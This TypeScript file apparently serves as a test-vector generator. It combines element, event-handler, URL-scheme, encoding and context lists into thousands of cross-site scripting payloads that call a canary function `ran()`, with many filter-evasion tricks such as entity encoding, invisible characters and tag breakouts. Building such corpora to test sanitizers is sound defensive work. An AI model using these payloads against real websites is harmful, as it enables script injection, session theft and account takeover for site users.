// Hostile texts by the thousand, made and not copied: each calls `ran()` in a browser that takes it for more than text.

const ELEMENTS = ['a', 'audio', 'base', 'body', 'button', 'custom-x', 'details', 'embed', 'form', 'iframe', 'img', 'input', 'link', 'marquee', 'math', 'meta', 'object', 'script', 'select', 'style', 'svg', 'table', 'textarea', 'title', 'use', 'video'];
const HANDLERS = ['onerror=ran()', 'onload=ran()', 'autofocus tabindex=1 onfocus=ran()', 'open ontoggle=ran()', 'onbegin=ran() dur=1s', "style='animation:x 1s' onanimationstart=ran()", "onpointerenter='ran()'", 'ONclick="ran()"', "srcdoc='<script>parent.ran()</script>'", 'x=`>` onload=ran()'];
const GAPS = [' src=x ', '/src=x/', ' ', '\u{a0}src=x '];
const ADDRESSES = ['javascript:ran()', 'JaVaScRiPt:ran()', 'javascript&colon;ran()', '&#106;avascript:ran()', '&#x6A&#x61&#x76&#x61script:ran()', 'jav&NewLine;ascript&Tab;:ran()', 'javascript://example.org/%0aran()', 'vbscript:ran()', 'data:text/html,<script>parent.ran()</script>', "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran()'/>", '\u{200b}javascript:ran()', '//example.org\\@javascript:ran()'];
const BEARERS = ['<a href=@>x</a>', '<a href="@">x</a>', "<a href='@' target=_self>x</a>", '<svg><a href="@"><text>x</text></a></svg>', '<img src="@">', '<img srcset="@ 1x">', '<iframe src="@"></iframe>', '<object data="@"></object>', '<embed src="@">', '<form action="@"><button>x</button></form>', '<input type=image src=x formaction="@">', '<video poster="@" src="@"></video>', '<base href="@">', '<link rel=stylesheet href="@">', '<meta http-equiv=refresh content="0;url=@">', `<div style="background:url('@')">x</div>`, '[x](@)', '![x](@)', '<@>'];
const PAYLOADS = ['<script>ran()</script>', '<img src=x onerror=ran()>', '<svg onload=ran()>', "<iframe srcdoc='<script>parent.ran()</script>'></iframe>", '<details open ontoggle=ran()>x</details>', '<math><mtext><mglyph><style><img src=x onerror=ran()>'];
const PLACES = ['@', '">@', "'>@", '`>@', '</p>@', '</title>@', '</textarea>@', '</script>@', '</style>@', '</noscript>@', '</template>@', '<!--@-->', '--><!--@', '<![CDATA[@]]>', '<?@?>', '<p title="@">x</p>', '<textarea>@</textarea>', '<noscript><p title="</noscript>@">', '<svg><style>@</style></svg>', '<table>@</table>', '`@`', '> @', '| @ |', '&lt;@&gt;', '{{@}}', '${@}', '\u{feff}@', '+ADw-@', '\u{2028}@', '\\u003c@', '{"a":"</script>@"}'];
const each = (text: string, write: (code: number) => string): string => [...text].map((letter) => write(letter.codePointAt(0) ?? 0)).join('');
const ENCODINGS: ((text: string) => string)[] = [
  (text) => text, (text) => text.replaceAll('<', '&lt;'), (text) => text.replaceAll('<', '&amp;lt;'), (text) => each(text, (code) => `&#${code};`), (text) => each(text, (code) => `&#x${code.toString(16)}`),
  (text) => encodeURIComponent(text), (text) => each(text, (code) => `\\u${code.toString(16).padStart(4, '0')}`), (text) => text.replaceAll('<', '\u{ff1c}'), (text) => text.toUpperCase(),
];

const put = (frames: readonly string[], texts: readonly string[]): string[] => frames.flatMap((frame) => texts.map((text) => frame.replaceAll('@', () => text)));

/** All of them, each once. */
export const vectors = (): string[] => [...new Set([
  ...ELEMENTS.flatMap((element) => HANDLERS.flatMap((handler) => GAPS.map((gap) => `<${element}${gap}${handler}>x</${element}>`))),
  ...put(BEARERS, ADDRESSES),
  ...put(PLACES, [...PAYLOADS, ...ADDRESSES, ...put(ENCODINGS.map((encode) => encode('@')), ['']), ...PAYLOADS.flatMap((payload) => ENCODINGS.map((encode) => encode(payload)))]),
])];
